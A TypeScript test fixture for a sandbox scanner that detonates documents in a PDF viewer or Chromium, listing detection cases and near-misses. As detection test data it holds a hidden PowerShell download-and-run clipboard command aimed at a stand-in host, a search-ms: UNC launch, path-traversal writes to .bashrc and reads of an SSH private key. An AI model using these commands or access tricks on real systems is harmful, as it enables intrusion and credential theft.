import type { EndState, Environment, Happening, Signal } from '#scanner/detonation/contract.ts'
import { asks, connect, file, keyed, memory, page, start, unreported, viewer } from '#test/harness/detonation/happenings.ts'
import { environment, happening } from '#test/harness/detonation/runs.ts'

export interface Case {
  readonly id: string
  /** What happens, and what gives the signal. */
  readonly does: string
  readonly happenings: readonly Happening[]
  /** Where it is not of the gravity of its rule. */
  readonly weight?: Signal['weight']
  readonly environment?: Environment
  readonly end?: EndState
  /** The same with one thing missing, which gives none. */
  readonly lacks: string
  readonly nearMiss: readonly Happening[]
}

const heap = (bytes: number) => happening('page', { action: 'heap', detail: '', rank: 'guest', bytes })
const wasm = happening('page', { action: 'script', detail: '', as: 'WebAssembly', rank: 'guest' })
const large = happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 64 * 2 ** 20, count: 1 })
const crashed = happening('fault', { pid: 114, image: '', signal: 'SIGSEGV' })
const handler = '/usr/lib/chromium/chrome_crashpad_handler'
const traced = (request: string, image = handler) =>
  happening('attack-call', { pid: 117, image, call: 'ptrace', detail: `request: ${request}, pid: 72, addr: 0, data: 0` })
const clock = happening('page', { action: 'clock', detail: '', rank: 'guest' })

/** What gives each signal, and what almost does. */
export const CASES: readonly Case[] = [
  {
    id: 'unexpected-process',
    does: 'Poppler starts /bin/sh',
    happenings: [start('/bin/sh')],
    lacks: 'the program is the viewer, or a copy of it that starts no other',
    nearMiss: [start(viewer), happening('process-start', { pid: 901, parent: 812, image: '/usr/bin/python3' })],
  },
  {
    id: 'unexpected-process',
    does: 'a program in /tmp bears the name of the viewer',
    happenings: [start('/tmp/pdftoppm')],
    lacks: 'it is the installed one',
    nearMiss: [start(viewer)],
  },
  {
    id: 'unexpected-process',
    does: 'a program that the viewer left in its folder bears its name, and is started by that alone',
    happenings: [start('pdftoppm')],
    lacks: 'it is the installed one',
    nearMiss: [start(viewer)],
  },
  {
    id: 'unexpected-process',
    does: 'a program is started by a way that leads through the folder of installed ones and out of it',
    happenings: [start('/usr/bin/../../tmp/pdftoppm'), start('/usr/lib/..')],
    lacks: 'it is the installed one, by whatever way',
    nearMiss: [start('/usr/bin//pdftoppm'), start('/usr/bin/./pdftoppm')],
  },
  {
    id: 'unexpected-process',
    does: 'a shell that the viewer started runs itself once more',
    happenings: [start('/bin/sh'), start('/proc/self/exe')],
    lacks: 'it is the viewer that runs itself once more, as Chromium does for sounds',
    nearMiss: [start('/proc/self/exe')],
  },
  {
    id: 'unexpected-process',
    does: 'the equation editor of a Windows guest starts cmd.exe',
    environment: environment('other'),
    happenings: [start('C:\\Office\\EQNEDT32.EXE', { pid: 7 }), start('C:\\Windows\\cmd.exe', { parent: 7 })],
    lacks: 'nothing is started',
    nearMiss: [],
  },
  {
    id: 'write-then-execute',
    does: '/tmp/a is written, then started',
    happenings: [file('/tmp/a'), start('/tmp/a')],
    lacks: 'another file is started',
    nearMiss: [file('/tmp/a'), start('/tmp/b')],
  },
  {
    id: 'write-then-execute',
    does: 'a library is written, then loaded',
    happenings: [file('/tmp/a.so', 'write'), happening('library-call', { pid: 812, call: 'dlopen', argument: '/tmp/a.so' })],
    lacks: 'it was loaded first',
    nearMiss: [happening('library-call', { pid: 812, call: 'dlopen', argument: '/tmp/a.so' }), file('/tmp/a.so', 'write')],
  },
  {
    id: 'memfd-exec',
    does: 'a file in memory alone is started',
    happenings: [memory({ call: 'memfd_create', protection: undefined }), start('/proc/self/fd/7')],
    lacks: 'it is made, and nothing of it started',
    nearMiss: [memory({ call: 'memfd_create', protection: undefined }), start('/bin/true')],
  },
  {
    id: 'executable-memory',
    does: 'memory becomes executable',
    happenings: [memory({})],
    lacks: 'it can be read and written',
    nearMiss: [memory({ protection: 'rw-' })],
  },
  {
    id: 'executable-memory',
    does: 'memory of Chromium becomes executable outside of the range of its script engine',
    environment: environment('chromium'),
    happenings: [keyed(0x2000_0000), memory({ address: '0x21000000', length: 4096 })],
    lacks: 'it lies within that range',
    nearMiss: [keyed(0x2000_0000), memory({ address: '0x20fff000', length: 4096 })],
  },
  {
    id: 'executable-memory',
    does: 'memory of a program that Chromium started becomes executable under a key',
    environment: environment('chromium'),
    happenings: [wasm, start('/bin/sh', { pid: 812 }), keyed(0x2000_0000)],
    lacks: 'the process is of Chromium itself',
    nearMiss: [wasm, keyed(0x2000_0000)],
  },
  {
    id: 'executable-memory',
    does: 'some pages of Chromium become executable under a key',
    environment: environment('chromium'),
    happenings: [keyed(4096)],
    lacks: 'so much memory does as its script engine keeps for code',
    nearMiss: [keyed(0x2000_0000)],
  },
  {
    id: 'executable-memory',
    does: 'some pages of a page with WebAssembly become executable under a key',
    weight: 'odd',
    environment: environment('chromium'),
    happenings: [wasm, keyed(4096)],
    lacks: 'so much memory does as its script engine keeps for code',
    nearMiss: [wasm, keyed(0x2000_0000)],
  },
  {
    id: 'outside-profile',
    does: 'Chromium writes a file of its user',
    environment: environment('chromium'),
    happenings: [file('/home/user/.bashrc', 'write')],
    lacks: 'nothing is written',
    nearMiss: [],
  },
  ...['/tmp/../home/user/.bashrc', '/home/user/profile/Default/Cache/../../../.bashrc', '/proc/self/root/home/user/.bashrc', '/dev/fd/5/home/user/.bashrc'].map(
    (path) => ({
      id: 'outside-profile',
      does: `Chromium writes ${path}`,
      environment: environment('chromium'),
      happenings: [file(path, 'write')],
      lacks: 'it writes where it may, by whatever way',
      nearMiss: [file('/proc/163/clear_refs', 'write'), file('/home/user/../user/profile/Default/History', 'write')],
    }),
  ),
  {
    id: 'outside-profile',
    does: 'the disk holds a file of its user that Chromium wrote by another name',
    environment: environment('chromium'),
    happenings: [file('/tmp/link/.bashrc', 'write'), file('/home/user/.bashrc', 'write', 'host')],
    lacks: 'the files are of its profile, downloaded or passing',
    nearMiss: [file('/home/user/profile/Default/History', 'write'), file('/tmp/.org.chromium.x'), file('/home/user/Downloads/a')],
  },
  {
    id: 'equal-buffers',
    does: 'scripts of a page hold 256 buffers of one MiB',
    happenings: [happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 2 ** 20, count: 256 })],
    lacks: 'they are few, or small',
    nearMiss: [
      happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 2 ** 20, count: 63 }),
      happening('page', { action: 'buffers', detail: '', rank: 'guest', bytes: 4096, count: 4000 }),
    ],
  },
  {
    id: 'heap-growth',
    does: 'what scripts of a page hold grows from one to 300 MiB',
    happenings: [heap(2 ** 20), heap(300 * 2 ** 20)],
    lacks: 'it is as large from the beginning',
    nearMiss: [heap(300 * 2 ** 20), heap(310 * 2 ** 20)],
  },
  {
    id: 'timing-probe',
    does: 'a page with WebAssembly and a large buffer reads the clock in a tight loop',
    happenings: [wasm, large, clock],
    lacks: 'it does not read the clock so',
    nearMiss: [wasm, large],
  },
  {
    id: 'timing-probe',
    does: 'a page with a large buffer reads the clock in a tight loop',
    weight: 'odd',
    happenings: [large, clock],
    lacks: 'it holds none',
    nearMiss: [clock],
  },
  {
    id: 'stack-pivot',
    does: 'mprotect is called on a foreign stack',
    happenings: [memory({ protection: 'r--', pivoted: true })],
    lacks: 'the stack is its own',
    nearMiss: [memory({ protection: 'r--', pivoted: false })],
  },
  {
    id: 'stack-pivot',
    does: 'a program is started from a foreign stack',
    happenings: [happening('process-start', { pid: 900, parent: 812, image: viewer, arguments: [], pivoted: true })],
    lacks: 'the stack is its own',
    nearMiss: [start(viewer)],
  },
  {
    id: 'sandbox-attack',
    does: 'the viewer calls ptrace',
    happenings: [happening('attack-call', { pid: 812, call: 'ptrace' })],
    lacks: 'it calls nothing of the list',
    nearMiss: [happening('library-call', { pid: 812, call: 'dlopen', argument: 'libm.so.6' })],
  },
  {
    id: 'sandbox-attack',
    does: 'the crash handler of Chromium reads a process that crashed',
    environment: environment('chromium'),
    weight: 'odd',
    happenings: [crashed, traced('10'), traced('4204')],
    lacks: 'nobody reads it',
    nearMiss: [crashed],
  },
  ...[
    ['the crash handler of Chromium changes another process after a crash', [crashed, traced('10'), traced('4205')]],
    ['something else of Chromium reads another process after a crash', [crashed, traced('10', '/usr/lib/chromium/chromium')]],
    ['a program elsewhere that bears the name of the crash handler reads another process', [crashed, traced('10', '/tmp/chrome_crashpad_handler')]],
    [
      'a crash handler that came with the page reads another process after a crash',
      [crashed, happening('process-start', { pid: 117, parent: 115, image: handler }), traced('10')],
    ],
    ['the memory of a process is written through its file', [crashed, happening('attack-call', { pid: 117, image: handler, call: 'mem_write' })]],
  ].map(([does, happenings]) => ({
    id: 'sandbox-attack',
    does: does as string,
    environment: environment('chromium'),
    happenings: happenings as Happening[],
    lacks: 'nobody reads or changes it, whatever else is written below /proc',
    nearMiss: [crashed, file('/proc/163/clear_refs', 'write')],
  })),
  {
    id: 'sandbox-attack',
    does: 'the sandbox of the viewer stops a call',
    happenings: [happening('fault', { pid: 812, image: viewer, signal: 'SIGSYS' })],
    lacks: 'another fault',
    nearMiss: [happening('fault', { pid: 812, image: viewer, signal: 'SIGFPE' })],
  },
  {
    id: 'honey-file',
    does: 'a private key is read',
    happenings: [file('/home/user/.ssh/id_rsa', 'read', 'guest', true)],
    lacks: 'a file without meaning is read',
    nearMiss: [file('/home/user/a', 'read', 'guest')],
  },
  {
    id: 'honey-file',
    does: 'a document has Chromium read a private key as a picture',
    weight: 'active',
    environment: environment('chromium'),
    happenings: [asks('file:///home/user/%2Essh/id_rsa'), file('/home/user/.ssh/id_rsa', 'read', 'guest', true)],
    lacks: 'nobody reads it',
    nearMiss: [asks('file:///home/user/.ssh/id_rsa')],
  },
  {
    id: 'honey-file',
    does: 'a private key is written that a document asked Chromium for',
    environment: environment('chromium'),
    happenings: [asks('file:///home/user/.ssh/id_rsa'), file('/home/user/.ssh/id_rsa', 'write', 'guest', true)],
    lacks: 'a file without meaning is read',
    nearMiss: [asks('file:///home/user/a'), file('/home/user/a', 'read', 'guest')],
  },
  {
    id: 'crash',
    does: 'the viewer dies of a segmentation fault',
    happenings: [happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV', address: '0x0', access: 'read' })],
    lacks: 'it ends by itself',
    nearMiss: [happening('process-end', { pid: 812, code: 0 })],
  },
  {
    id: 'spray',
    does: '64 MiB hold one pattern',
    happenings: [happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '0c0c0c0c', rank: 'guest' })],
    lacks: 'the pages are fresh, of one opaque colour, or few',
    nearMiss: [
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '00000000' }),
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: 'ffffffff' }),
      happening('spray', { pid: 812, bytes: 64 * 2 ** 20, pattern: '282828ff'.repeat(4) }),
      happening('spray', { pid: 812, bytes: 2 ** 20, pattern: '0c0c0c0c' }),
    ],
  },
  {
    id: 'library-call',
    does: 'system is called',
    happenings: [happening('library-call', { pid: 812, call: 'system', argument: 'id' })],
    lacks: 'nothing is called',
    nearMiss: [],
  },
  {
    id: 'library-call',
    does: 'an unknown library is loaded',
    weight: 'odd',
    happenings: [happening('library-call', { pid: 812, call: 'dlopen', argument: 'libx.so' })],
    lacks: 'nothing is called',
    nearMiss: [],
  },
  {
    id: 'network-attempt',
    does: 'the document connects to a host',
    happenings: [connect('198.51.100.7', 'kernel')],
    lacks: 'it is a page, which may',
    nearMiss: [page('navigate', 'https://page.example/'), connect('page.example', 'kernel')],
  },
  {
    id: 'network-attempt',
    does: 'a document in a browser leads it to a host',
    environment: environment('chromium'),
    happenings: [page('navigate', 'file:///home/user/Documents/letter.html'), page('navigate', 'https://page.example/'), connect('page.example')],
    lacks: 'the browser asks for what it asks for with any document',
    nearMiss: [
      page('navigate', 'file:///home/user/Documents/letter.html'),
      happening('connect', { pid: 812, to: '127.0.0.1', port: 3128, protocol: 'other', rank: 'kernel' }),
      happening('connect', { pid: 812, to: '2001:4860:4860:0:0:0:0:8888', port: 443, protocol: 'other', rank: 'kernel' }),
    ],
  },
  {
    id: 'scheme-launch',
    does: 'a page launches search-ms:',
    happenings: [page('scheme', 'search-ms:query=a&crumb=location:\\\\host.example\\a')],
    lacks: 'the browser opens the scheme itself',
    nearMiss: [page('scheme', 'https://page.example/')],
  },
  {
    id: 'clipboard-command',
    does: 'a page copies a command',
    happenings: [page('clipboard', 'powershell -w hidden iex(irm host.example/a)')],
    lacks: 'it says so and copies nothing',
    nearMiss: [page('console', 'powershell -w hidden')],
  },
  {
    id: 'clipboard-command',
    does: 'a page copies a text',
    weight: 'odd',
    happenings: [page('clipboard', 'the quick brown fox')],
    lacks: 'nothing is copied',
    nearMiss: [],
  },
  {
    id: 'unreported-traffic',
    does: 'the proxy sees a request that the browser does not report, however much else it reports',
    happenings: [
      page('request', 'https://page.example/a'),
      unreported('POST', 'https://page.example/b'),
      happening('dropped', { of: 'page console', count: 1 }),
    ],
    lacks: 'the browser reports all, or too much for all of it to be kept',
    nearMiss: [page('request', 'https://page.example/a'), unreported('POST', 'https://page.example/b'), happening('dropped', { of: 'page request', count: 1 })],
  },
  {
    id: 'unreported-traffic',
    does: 'something else than a request is said in a connection that the browser does not report',
    happenings: [page('request', 'file:///home/user/Documents/a.pdf'), unreported('CONNECT', 'other.example:443')],
    lacks: 'the browser reports nothing at all',
    nearMiss: [unreported('CONNECT', 'other.example:443')],
  },
  {
    id: 'unreported-traffic',
    does: 'a connection is opened and not used',
    weight: 'odd',
    happenings: [page('request', 'https://page.example/a'), unreported('CONNECT', 'other.example:443', true)],
    lacks: 'none is opened',
    nearMiss: [page('request', 'https://page.example/a'), connect('page.example')],
  },
  {
    id: 'dropped-file',
    does: 'a program is left where the viewer keeps such files, under a name that says nothing',
    environment: environment('chromium'),
    weight: 'active',
    happenings: [
      file('/home/user/profile/Default/Cache/a', 'create'),
      happening('file', { path: '/home/user/profile/Default/Cache/b', action: 'create', rank: 'host', program: true }),
    ],
    lacks: 'nothing is left',
    nearMiss: [],
  },
  {
    id: 'dropped-file',
    does: 'a shell script is left',
    weight: 'active',
    happenings: [file('/home/user/.config/autostart/a.desktop')],
    lacks: 'a file is read',
    nearMiss: [file('/usr/share/fonts/a.ttf', 'read')],
  },
  {
    id: 'dropped-file',
    does: 'a file is left',
    happenings: [file('/home/user/a.txt')],
    lacks: 'a file is read',
    nearMiss: [file('/usr/share/fonts/a.ttf', 'read')],
  },
  {
    id: 'download',
    does: 'a page hands out a file',
    happenings: [page('download', 'https://page.example/a.zip')],
    lacks: 'it requests one',
    nearMiss: [page('request', 'https://page.example/a.zip')],
  },
  {
    id: 'unusual',
    does: 'the kernel loads a module',
    happenings: [happening('module-load', { pid: 812, path: 'dccp' })],
    lacks: 'it has them already',
    nearMiss: [],
  },
  {
    id: 'unusual',
    does: 'a file is deleted',
    happenings: [file('/home/user/letter.odt', 'delete')],
    lacks: 'it is read',
    nearMiss: [file('/home/user/letter.odt', 'read')],
  },
  {
    id: 'silence',
    does: 'the heartbeat of the agent stops',
    end: 'agent-silenced',
    happenings: [happening('silence', { of: 'agent', detail: 'no heartbeat for 5 s', rank: 'host' })],
    lacks: 'it goes on',
    nearMiss: [],
  },
  {
    id: 'disagreement',
    does: 'the disk holds a file of which the guest told nothing',
    happenings: [file('/home/user/a'), file('/home/user/b', 'create', 'host')],
    lacks: 'the guest told of it',
    nearMiss: [
      file('/home/user/b'),
      file('/home/user/b', 'create', 'host'),
      happening('file', { path: '/home/user/c', action: 'write', rank: 'host', held: true }),
    ],
  },
  {
    id: 'disagreement',
    does: 'the disk holds a file that is not like those of which the guest told',
    happenings: [...Array.from({ length: 60 }, (_, i) => file(`/tmp/${i}.tmp`)), file('/tmp/a.so', 'create', 'host')],
    lacks: 'so many were alike that the others were not told',
    nearMiss: [...Array.from({ length: 60 }, (_, i) => file(`/tmp/${i}.tmp`)), file('/tmp/60.tmp', 'create', 'host')],
  },
  {
    id: 'disagreement',
    does: 'traffic comes out without a call',
    happenings: [start(viewer), connect('host.example')],
    lacks: 'the kernel saw a call',
    nearMiss: [start(viewer), connect('10.0.2.2', 'kernel'), connect('host.example')],
  },
  {
    id: 'disagreement',
    does: 'the guest tells of a process that the kernel does not know',
    happenings: [start(viewer), start('/bin/x', { pid: 5, rank: 'guest' })],
    lacks: 'the kernel knows it',
    nearMiss: [start(viewer), start('/bin/x', { pid: 900, rank: 'guest' })],
  },
  {
    id: 'disagreement',
    does: 'a document is rendered by a dead viewer',
    happenings: [
      happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV' }),
      happening('process-end', { pid: 812, signal: 'SIGSEGV' }),
      happening('viewer', { state: 'rendered', rank: 'guest', t: 9 }),
    ],
    lacks: 'it had been rendered before',
    nearMiss: [
      happening('viewer', { state: 'rendered', rank: 'guest', t: 0.5 }),
      happening('fault', { pid: 812, image: viewer, signal: 'SIGSEGV' }),
      happening('process-end', { pid: 812, signal: 'SIGSEGV' }),
    ],
  },
]
